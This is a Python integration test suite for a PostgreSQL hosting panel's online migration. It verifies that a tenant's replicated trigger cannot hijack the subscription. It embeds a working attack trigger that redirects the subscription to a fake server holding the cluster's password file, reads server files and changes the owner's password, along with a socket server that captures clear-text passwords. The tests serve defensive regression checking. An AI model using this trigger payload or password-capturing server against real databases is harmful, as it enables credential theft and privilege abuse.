"""Online migration and the tenant's triggers: a trigger marked ``ENABLE ALWAYS`` on a published
table is copied with the schema and fired by the subscription's apply worker, as the
subscription's owner (``pgpanel_migrate``). Replayed for real, from a source server the tenant
controls: the trigger runs ``ALTER SUBSCRIPTION … CONNECTION`` towards a fake server on loopback
with a password file of the cluster's (before the guard's subscription rule the statement
succeeded, the apply worker reconnected there and handed over the file's password), renames the
subscription, reads a server file, publishes, and changes the owner's password; each is refused,
the subscription keeps its connection, no connection reaches the fake server, and the rows keep
coming until the cut-over. Beside it, a source with ordinary triggers and the updates, deletes
and truncation the apply needs its rights for migrates and cuts over with every row equal."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Callable, Iterator
from typing import Any

import psycopg
import pytest
from psycopg import sql

from panel.clusters.models import Cluster
from panel.clusters.tests.conftest import connect_as_client, superuser_in
from panel.migrate.models import MigrationStatus
from panel.migrate.services import cutover, target
from panel.migrate.tests.conftest import Source, logical_source, run_until_syncing  # noqa: F401

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.integration]

TABLES = """
CREATE TABLE public.items (id bigserial PRIMARY KEY, note text NOT NULL);
CREATE TABLE public.audit (what text NOT NULL, detail text);
INSERT INTO public.items (note) SELECT 'before ' || g FROM generate_series(1, 200) g;
"""

# Fires on the source too (as its superuser, where no subscription exists: nothing happens).
HIJACK = """
CREATE FUNCTION public.hijack() RETURNS trigger LANGUAGE plpgsql AS $body$
DECLARE
  sub text;
  probe text;
BEGIN
  SELECT subname INTO sub FROM pg_catalog.pg_subscription
   WHERE subdbid = (SELECT oid FROM pg_catalog.pg_database WHERE datname = current_database());
  IF sub IS NULL OR NEW.note <> 'go' THEN
    RETURN NEW;
  END IF;
  INSERT INTO public.audit SELECT 'as', rolname || ' super=' || rolsuper FROM pg_catalog.pg_roles
   WHERE rolname = current_user;
  FOREACH probe IN ARRAY ARRAY[
    format('ALTER SUBSCRIPTION %I CONNECTION %L', sub, {conninfo}),
    format('ALTER SUBSCRIPTION %I RENAME TO mine', sub),
    format('SELECT pg_catalog.pg_read_file(%L)', {passfile}),
    format('COPY public.audit (what) FROM %L', {passfile}),
    'CREATE PUBLICATION mine',
    'ALTER ROLE CURRENT_USER PASSWORD ''mine-now'''
  ] LOOP
    BEGIN
      EXECUTE probe;
      INSERT INTO public.audit VALUES ('done', probe);
    EXCEPTION
      WHEN insufficient_privilege THEN
        INSERT INTO public.audit VALUES ('refused', probe);
      WHEN OTHERS THEN
        INSERT INTO public.audit VALUES ('failed ' || SQLSTATE, probe);
    END;
  END LOOP;
  RETURN NEW;
END $body$;
CREATE TRIGGER hijack AFTER INSERT ON public.items FOR EACH ROW EXECUTE FUNCTION public.hijack();
ALTER TABLE public.items ENABLE ALWAYS TRIGGER hijack;
"""

ORDINARY = """
ALTER TABLE public.items ADD COLUMN changed int NOT NULL DEFAULT 0;
CREATE FUNCTION public.count_change() RETURNS trigger LANGUAGE plpgsql AS $body$
BEGIN
  NEW.changed := OLD.changed + 1;
  RETURN NEW;
END $body$;
CREATE TRIGGER count_change BEFORE UPDATE ON public.items FOR EACH ROW EXECUTE FUNCTION public.count_change();
CREATE FUNCTION public.note_arrival() RETURNS trigger LANGUAGE plpgsql AS $body$
BEGIN
  INSERT INTO public.audit VALUES ('arrived', NEW.note);
  RETURN NEW;
END $body$;
CREATE TRIGGER note_arrival AFTER INSERT ON public.items FOR EACH ROW EXECUTE FUNCTION public.note_arrival();
"""


class FakeServer(threading.Thread):
    """A listener on loopback that plays a PostgreSQL server as far as the password: it asks each
    client for a clear-text password and records (startup parameters, password)."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.received: list[tuple[dict[str, str], str]] = []
        self.connected = threading.Event()

    def run(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            self.connected.set()
            with conn:
                conn.settimeout(10)
                try:
                    self.received.append(self._serve(conn))
                except (OSError, struct.error):
                    self.received.append(({}, ""))

    @staticmethod
    def _read(conn: socket.socket, size: int) -> bytes:
        data = b""
        while len(data) < size:
            chunk = conn.recv(size - len(data))
            if not chunk:
                raise OSError("closed")
            data += chunk
        return data

    def _serve(self, conn: socket.socket) -> tuple[dict[str, str], str]:
        while True:
            (length,) = struct.unpack("!I", self._read(conn, 4))
            body = self._read(conn, length - 4)
            if struct.unpack("!I", body[:4])[0] == 80877103:  # SSLRequest: no
                conn.sendall(b"N")
                continue
            break
        words = body[4:].split(b"\0")
        params = {words[i].decode(): words[i + 1].decode() for i in range(0, len(words) - 1, 2) if words[i]}
        conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
        kind = self._read(conn, 1)
        (length,) = struct.unpack("!I", self._read(conn, 4))
        password = self._read(conn, length - 4).rstrip(b"\0").decode(errors="replace")
        return params, password if kind == b"p" else ""

    def close(self) -> None:
        self.listener.close()


@pytest.fixture
def fake_server() -> Iterator[FakeServer]:
    server = FakeServer()
    server.start()
    yield server
    server.close()


def _source_database(source: Source, dbname: str, script: str) -> list[str]:
    """A fresh database on the source holding ``script``; the source's other databases (to leave out)."""
    with source.connect() as conn:
        conn.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(dbname)))
        conn.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(dbname)))
        others = conn.execute(
            "SELECT datname FROM pg_database WHERE datname NOT IN ('template0', 'template1', 'postgres', %s)",
            (dbname,),
        ).fetchall()
    with source.connect(dbname) as conn:
        conn.execute(script)
    return [name for (name,) in others]


def _rows(conn: psycopg.Connection) -> list[tuple[Any, ...]]:
    return conn.execute("SELECT * FROM public.items ORDER BY id").fetchall()


def _conninfo(cluster: Cluster, dbname: str) -> list[tuple[str, str]]:
    with superuser_in(cluster, dbname) as conn:
        return conn.execute("SELECT subname, subconninfo FROM pg_subscription ORDER BY 1").fetchall()


def test_a_trigger_fired_by_the_apply_cannot_touch_the_subscription_nor_the_server(
    shared_local_cluster: Cluster,
    logical_source: Source,  # noqa: F811
    fake_server: FakeServer,
    settings: Any,
    wait_until: Callable[..., object],
) -> None:
    settings.PANEL_MIGRATION_SOURCE_NETWORKS = ["127.0.0.0/8"]
    cluster = shared_local_cluster
    ignore = _source_database(logical_source, "hijacked", TABLES)
    migration = logical_source.migrate_into(cluster, ignore)
    passfile = str(target.passfile(cluster, migration.name))
    conninfo = (
        f"host=127.0.0.1 port={fake_server.port} user=pgpanel dbname=postgres sslmode=disable "
        f"connect_timeout=5 passfile={passfile}"
    )
    with logical_source.connect("hijacked") as conn:
        conn.execute(
            HIJACK.replace("{conninfo}", sql.Literal(conninfo).as_string(conn)).replace(
                "{passfile}", sql.Literal(passfile).as_string(conn)
            )
        )
    run_until_syncing(cluster, migration, wait_until)
    before = _conninfo(cluster, "hijacked")
    assert len(before) == 1

    with logical_source.connect("hijacked") as conn:
        conn.execute("INSERT INTO public.items (note) VALUES ('go')")

    def audited() -> list[tuple[str, str]]:
        with connect_as_client(cluster, dbname="hijacked") as conn:
            return conn.execute("SELECT what, detail FROM public.audit").fetchall()

    seen = wait_until(audited, timeout=60, message="the trigger ran on the cluster")
    assert ("as", "pgpanel_migrate super=false") in seen, seen  # type: ignore[operator]
    outcomes = [row for row in seen if row[0] != "as"]  # type: ignore[attr-defined]
    assert [what for what, _probe in outcomes] == ["refused"] * 6, outcomes
    assert _conninfo(cluster, "hijacked") == before

    # The apply goes on from the real source, and the tenant's server was never called.
    with logical_source.connect("hijacked") as conn:
        conn.execute("INSERT INTO public.items (note) VALUES ('after')")

    def arrived() -> bool:
        with connect_as_client(cluster, dbname="hijacked") as conn:
            return conn.execute("SELECT 1 FROM public.items WHERE note = 'after'").fetchone() is not None

    wait_until(arrived, timeout=60, message="a row written after the attack arrives")
    assert not fake_server.connected.is_set(), fake_server.received

    cutover.stop_migration(cluster, str(migration.pk))
    migration.refresh_from_db()
    assert migration.status == MigrationStatus.DONE
    with logical_source.connect("hijacked") as src, connect_as_client(cluster, dbname="hijacked") as dst:
        assert _rows(dst) == _rows(src)
        assert src.execute("SELECT count(*) FROM pg_replication_slots").fetchone() == (0,)


def test_a_source_with_ordinary_triggers_migrates_every_change_and_cuts_over(
    shared_local_cluster: Cluster,
    logical_source: Source,  # noqa: F811
    settings: Any,
    wait_until: Callable[..., object],
) -> None:
    settings.PANEL_MIGRATION_SOURCE_NETWORKS = ["127.0.0.0/8"]
    cluster = shared_local_cluster
    ignore = _source_database(logical_source, "ordinary", TABLES + ORDINARY)
    with logical_source.connect("ordinary") as conn:
        conn.execute("CREATE TABLE public.scratch (id int PRIMARY KEY)")
        conn.execute("INSERT INTO public.scratch SELECT generate_series(1, 50)")
    migration = logical_source.migrate_into(cluster, ignore)
    run_until_syncing(cluster, migration, wait_until)

    # Inserts, updates (a BEFORE trigger on the source changes the row), deletes and a TRUNCATE:
    # each needs its own right on the cluster's table.
    with logical_source.connect("ordinary") as conn:
        conn.execute("INSERT INTO public.items (note) SELECT 'during ' || g FROM generate_series(1, 100) g")
        conn.execute("UPDATE public.items SET note = note || ' (changed)' WHERE id % 3 = 0")
        conn.execute("DELETE FROM public.items WHERE id % 7 = 0")
        conn.execute("TRUNCATE public.scratch")
    cutover.stop_migration(cluster, str(migration.pk))
    migration.refresh_from_db()
    assert migration.status == MigrationStatus.DONE, migration.error_message

    with logical_source.connect("ordinary") as src, connect_as_client(cluster, dbname="ordinary") as dst:
        expected = _rows(src)
        assert len(expected) == 300 - 300 // 7 and any(row[2] == 1 for row in expected)
        assert _rows(dst) == expected
        assert dst.execute("SELECT count(*) FROM public.scratch").fetchone() == (0,)
        # The ordinary triggers fired on the source only (their rows came over as rows), never
        # again for the replicated ones: the updated rows say changed = 1, and no arrival twice.
        arrivals = "SELECT detail, count(*) FROM public.audit GROUP BY 1 ORDER BY 1"
        assert dst.execute(arrivals).fetchall() == src.execute(arrivals).fetchall()
        assert dst.execute("SELECT max(count) FROM (" + arrivals + ") a").fetchone() == (1,)
        assert src.execute("SELECT count(*) FROM pg_replication_slots").fetchone() == (0,)
    with superuser_in(cluster, "ordinary") as conn:
        assert conn.execute("SELECT count(*) FROM pg_subscription").fetchone() == (0,)
        assert conn.execute("SELECT count(*) FROM pg_roles WHERE rolname = 'pgpanel_migrate'").fetchone() == (
            0,
        )


def test_the_guard_leaves_subscriptions_to_the_superuser_and_publications_to_the_tenant(
    shared_local_cluster: Cluster,
) -> None:
    """The rule itself, without a migration: an ordinary owner of a subscription (as the
    migration's role is once demoted) changes nothing of it; the superuser does; the tenant's own
    publications (pg_allow_replication's subscribers elsewhere read them) keep working."""
    cluster = shared_local_cluster
    with superuser_in(cluster, "defaultdb") as conn:
        conn.autocommit = True
        conn.execute("CREATE ROLE pgpanel_migrate SUPERUSER LOGIN PASSWORD NULL")
        try:
            conn.execute("SET ROLE pgpanel_migrate")
            conn.execute(
                "CREATE SUBSCRIPTION probe CONNECTION 'host=192.0.2.1 dbname=x' PUBLICATION p"
                " WITH (connect = false)"
            )
            conn.execute("RESET ROLE")
            conn.execute("ALTER ROLE pgpanel_migrate NOSUPERUSER")
            conn.execute("SET ROLE pgpanel_migrate")
            for statement in (
                "ALTER SUBSCRIPTION probe CONNECTION 'host=127.0.0.1 dbname=x'",
                "ALTER SUBSCRIPTION probe DISABLE",
                "ALTER SUBSCRIPTION probe SET PUBLICATION q WITH (refresh = false)",
                "ALTER SUBSCRIPTION probe RENAME TO mine",
                "ALTER SUBSCRIPTION probe SET (slot_name = NONE)",
                "COMMENT ON SUBSCRIPTION probe IS 'mine'",
                "DROP SUBSCRIPTION probe",
                "CREATE PUBLICATION mine",
            ):
                with pytest.raises(
                    psycopg.errors.InsufficientPrivilege, match="permission denied to create, change"
                ):
                    conn.execute(statement)
            conn.execute("RESET ROLE")
            assert conn.execute("SELECT subconninfo FROM pg_subscription").fetchall() == [
                ("host=192.0.2.1 dbname=x",)
            ]
            # What the migration checks before it enables its subscriptions.
            assert target.owner_is_refused(conn, "pgpanel_migrate", "probe")
            conn.execute("ALTER SUBSCRIPTION probe SET (slot_name = NONE)")
            conn.execute("DROP SUBSCRIPTION probe")
        finally:
            conn.execute("RESET ROLE")
            conn.execute("DROP SUBSCRIPTION IF EXISTS probe")
            conn.execute("DROP ROLE pgpanel_migrate")

    with connect_as_client(cluster, dbname="defaultdb", autocommit=True) as conn:
        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="subscription"):
            conn.execute("CREATE SUBSCRIPTION mine CONNECTION 'host=192.0.2.1 dbname=x' PUBLICATION p")
        conn.execute("CREATE TABLE public.orders (id int PRIMARY KEY)")
        conn.execute("CREATE TABLE public.lines (id int PRIMARY KEY)")
        try:
            conn.execute("CREATE PUBLICATION shop FOR TABLE public.orders")
            conn.execute("ALTER PUBLICATION shop ADD TABLE public.lines")
            conn.execute("ALTER PUBLICATION shop RENAME TO store")
            listed = "SELECT pubname, tablename FROM pg_publication_tables ORDER BY 2"
            assert conn.execute(listed).fetchall() == [("store", "lines"), ("store", "orders")]
            conn.execute("DROP PUBLICATION store")
        finally:
            conn.execute("DROP PUBLICATION IF EXISTS shop")
            conn.execute("DROP PUBLICATION IF EXISTS store")
            conn.execute("DROP TABLE public.orders, public.lines")


def test_a_server_whose_guard_lets_the_owner_change_its_subscription_gets_no_rows(
    logical_source: Source,  # noqa: F811
) -> None:
    """A running server keeps the guard it started with: one from before the subscription rule
    (here a server with no guard at all, the source) lets the demoted owner change its
    subscription, and the migration's check says so, changing nothing."""
    with logical_source.connect() as conn:
        conn.execute("CREATE ROLE probe_owner SUPERUSER")
        try:
            conn.execute("SET ROLE probe_owner")
            conn.execute(
                "CREATE SUBSCRIPTION probe CONNECTION 'host=192.0.2.1 dbname=x' PUBLICATION p"
                " WITH (connect = false)"
            )
            conn.execute("RESET ROLE")
            conn.execute("COMMENT ON SUBSCRIPTION probe IS 'kept'")
            conn.execute("ALTER ROLE probe_owner NOSUPERUSER")
            assert not target.owner_is_refused(conn, "probe_owner", "probe")
            described = "SELECT obj_description(oid, 'pg_subscription') FROM pg_subscription"
            assert conn.execute(described).fetchall() == [("kept",)]
            assert conn.execute("SELECT current_user").fetchone() == ("srcadmin",)
        finally:
            conn.execute("RESET ROLE")
            conn.execute("ALTER SUBSCRIPTION probe SET (slot_name = NONE)")
            conn.execute("DROP SUBSCRIPTION IF EXISTS probe")
            conn.execute("DROP ROLE probe_owner")
